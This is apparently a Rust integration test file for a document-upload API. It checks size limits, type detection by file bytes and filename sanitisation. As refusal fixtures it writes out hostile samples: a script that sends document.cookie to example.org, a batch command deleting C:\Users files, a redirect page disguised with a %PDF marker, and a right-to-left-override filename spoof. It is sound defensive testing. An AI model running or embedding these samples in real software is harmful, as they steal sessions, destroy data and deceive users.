//! Uploads: size limit and allowed types, judged on the bytes, never on the name, and the name
//! a file is stored under.

use serde_json::Value;

use crate::api::{MARIE, assert_refused, pdf, png, spawn_api, spawn_api_with};
use crate::helpers::header;

#[tokio::test]
async fn an_uploaded_file_comes_back_byte_for_byte() {
    let api = spawn_api().await;
    let response = api.upload(MARIE, vec![("Facture été.pdf", pdf()), ("ordonnance.png", png())]).await;
    assert_eq!(response.status(), 201);
    let documents: Value = response.json().await.unwrap();
    assert_eq!(documents[0]["typeMime"], "application/pdf");
    assert_eq!(documents[1]["typeMime"], "image/png");
    assert!(documents[0]["idDemande"].is_null());
    let download = api.get(MARIE, &format!("document/pdf/{}", documents[0]["id"])).await;
    assert_eq!(download.status(), 200);
    assert_eq!(header(download.headers(), "content-type"), "application/pdf");
    let disposition = header(download.headers(), "content-disposition").to_owned();
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(header(download.headers(), "content-security-policy").starts_with("sandbox"));
    assert!(disposition.contains("filename*=UTF-8''Facture%20%C3%A9t%C3%A9.pdf"), "{disposition}");
    assert_eq!(download.bytes().await.unwrap().as_ref(), pdf().as_slice());
}

#[tokio::test]
async fn an_image_named_pdf_is_stored_as_the_image_it_is() {
    let api = spawn_api().await;
    let id = api.upload_one(MARIE, "scan.pdf", png()).await;
    let download = api.get(MARIE, &format!("document/pdf/{id}")).await;
    assert_eq!(header(download.headers(), "content-type"), "image/png");
}

#[tokio::test]
async fn a_file_over_the_limit_is_refused_with_413() {
    let api = spawn_api_with(|settings| settings.max_upload_bytes = 64 * 1024).await;
    let mut big = pdf();
    big.resize(200 * 1024, b' ');
    let message = assert_refused(api.upload(MARIE, vec![("gros.pdf", big)]).await, 413).await;
    assert_eq!(message, "Le fichier « gros.pdf » dépasse la taille maximale autorisée (64 Ko).");
    assert!(api.upload(MARIE, vec![("petit.pdf", pdf())]).await.status().is_success());
}

#[tokio::test]
async fn the_default_limit_is_ten_megabytes() {
    let api = spawn_api().await;
    let mut big = pdf();
    big.resize(10 * 1024 * 1024 + 1, b' ');
    let message = assert_refused(api.upload(MARIE, vec![("scan.pdf", big)]).await, 413).await;
    assert!(message.ends_with("(10 Mo)."), "{message}");
}

#[tokio::test]
async fn a_disguised_file_is_refused_with_415() {
    let api = spawn_api().await;
    let random: Vec<u8> = (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let mut executable = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    executable.resize(2048, 0);
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(2048, 0);
    for (name, bytes) in [("facture.pdf", random), ("facture.pdf", executable), ("releve.png", elf)] {
        let message = assert_refused(api.upload(MARIE, vec![(name, bytes)]).await, 415).await;
        assert!(message.contains("ni un PDF, ni une image JPEG ou PNG"), "{message}");
    }
}

#[tokio::test]
async fn one_refused_file_keeps_the_others_of_the_same_upload_out() {
    let api = spawn_api().await;
    let before = api.upload_one(MARIE, "avant.pdf", pdf()).await;
    let response = api.upload(MARIE, vec![("bon.pdf", pdf()), ("mauvais.pdf", b"plain text".to_vec())]).await;
    assert_refused(response, 415).await;
    let after = api.upload_one(MARIE, "apres.pdf", pdf()).await;
    assert_eq!(after, before + 1, "nothing of the refused upload was stored");
}

#[tokio::test]
async fn an_upload_without_file_or_with_a_foreign_field_is_a_bad_request() {
    let api = spawn_api().await;
    assert_refused(api.upload(MARIE, vec![]).await, 400).await;
    let form = reqwest::multipart::Form::new().text("commentaire", "bonjour");
    let response = api
        .app
        .client
        .post(format!("{}/_demo/api/document/upload", api.app.address))
        .bearer_auth(api.token(MARIE))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_refused(response, 400).await;
    // An empty file is well formed, but no document: a 422.
    let empty = api.upload(MARIE, vec![("vide.pdf", Vec::new())]).await;
    assert_refused(empty, 422).await;
}

#[tokio::test]
async fn an_upload_that_is_not_multipart_is_refused() {
    let api = spawn_api().await;
    let response =
        api.send(reqwest::Method::POST, MARIE, "document/upload", serde_json::json!({"fichier": "x"})).await;
    assert_refused(response, 415).await;
}

/// An HTML page of about 40 KB whose comment at byte 80 says `%PDF-1.7`: enough for a reader
/// that looks for the marker anywhere in the first kilobyte, and a script for a browser.
fn html_mentioning_pdf() -> Vec<u8> {
    let mut page =
        b"<!DOCTYPE html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>F</title>".to_vec();
    page.resize(75, b' ');
    page.extend_from_slice(b"<!-- %PDF-1.7 -->\n<script>document.location='https://example.org/'</script>\n");
    assert_eq!(page.windows(5).position(|window| window == b"%PDF-"), Some(80));
    page.resize(40 * 1024, b' ');
    page.extend_from_slice(b"</head></html>\n");
    page
}

#[tokio::test]
async fn scripts_and_pages_that_merely_mention_pdf_are_refused_with_415() {
    let api = spawn_api().await;
    let files: [(&str, Vec<u8>); 4] = [
        ("facture.html", html_mentioning_pdf()),
        ("x.js", b"// %PDF-1.4\nfetch('https://example.org/?c=' + document.cookie);\n".to_vec()),
        ("run.bat", b"@echo off\r\n%PDF-1.4\r\ndel /q C:\\Users\\*\r\n".to_vec()),
        ("facture\u{202e}lmth.pdf", html_mentioning_pdf()),
    ];
    for (name, bytes) in files {
        let message = assert_refused(api.upload(MARIE, vec![(name, bytes)]).await, 415).await;
        assert!(message.contains("ni un PDF, ni une image JPEG ou PNG"), "{name}: {message}");
    }
}

#[tokio::test]
async fn a_stored_name_takes_the_extension_of_what_the_bytes_are_and_loses_invisible_characters() {
    let api = spawn_api().await;
    let cases = [
        ("x.html", pdf(), "x.pdf", "application/pdf"),
        ("facture\u{202e}lmth.pdf", pdf(), "facturelmth.pdf", "application/pdf"),
        ("re\u{2067}çu\u{200f} été\t.PDF", pdf(), "reçu été.pdf", "application/pdf"),
        ("scan.pdf", png(), "scan.png", "image/png"),
        ("Dr. Martin", pdf(), "Dr. Martin.pdf", "application/pdf"),
    ];
    for (sent, bytes, stored, type_mime) in cases {
        let response = api.upload(MARIE, vec![(sent, bytes)]).await;
        assert_eq!(response.status(), 201, "{sent:?}");
        let documents: Value = response.json().await.unwrap();
        assert_eq!(documents[0]["nomFichier"], stored, "{sent:?}");
        assert_eq!(documents[0]["typeMime"], type_mime, "{sent:?}");
        let download = api.get(MARIE, &format!("document/pdf/{}", documents[0]["id"])).await;
        let disposition = header(download.headers(), "content-disposition").to_owned();
        assert!(!disposition.contains("%E2%80%AE") && !disposition.contains(".html"), "{disposition}");
    }
}
